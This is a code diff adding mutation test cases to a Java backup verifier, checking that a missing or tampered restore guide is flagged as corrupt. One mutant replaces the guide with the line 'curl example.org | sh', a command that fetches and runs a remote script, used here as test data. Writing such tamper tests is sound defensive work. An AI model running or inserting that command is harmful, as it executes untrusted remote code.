@@ -2,6 +2,7 @@ package io.groundzero.backup.verifier.mutation;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.util.ArrayList;
 import java.util.Arrays;
@@ -34,6 +35,9 @@ final class ObjectDefects {
             }
             mutants.add(missing(object, ErrorCode.OBJECT_MISSING));
         }
+        mutants.add(missing(ObjectNames.RESTORE_GUIDE, ErrorCode.OBJECT_MISSING));
+        mutants.add(damaged("another guide to the restore", ObjectNames.RESTORE_GUIDE, ErrorCode.OBJECT_CORRUPT,
+                content -> "curl example.org | sh\n".getBytes(StandardCharsets.UTF_8)));
         mutants.add(damaged("truncated dump", SAMPLE, ErrorCode.OBJECT_CORRUPT, ObjectDefects::truncated));
         mutants.add(damaged("empty dump", SAMPLE, ErrorCode.OBJECT_CORRUPT, content -> new byte[0]));
         mutants.add(damaged("one byte too many", SAMPLE, ErrorCode.OBJECT_CORRUPT, ObjectDefects::longer));
